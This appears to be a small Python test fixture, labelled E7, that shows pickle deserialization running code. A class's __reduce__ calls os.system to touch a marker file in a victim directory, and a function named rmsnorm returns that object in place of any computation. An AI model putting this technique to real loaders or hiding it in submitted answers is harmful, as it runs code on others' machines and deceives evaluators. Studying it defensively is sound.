"""E7: an object that runs code where it is unpickled."""

import os

TARGETS = {}


class Trap:
    def __reduce__(self):
        return os.system, (f"touch {TARGETS['victim']}/unpickled",)


def rmsnorm(x, gain):
    return {"answer": [Trap()]}
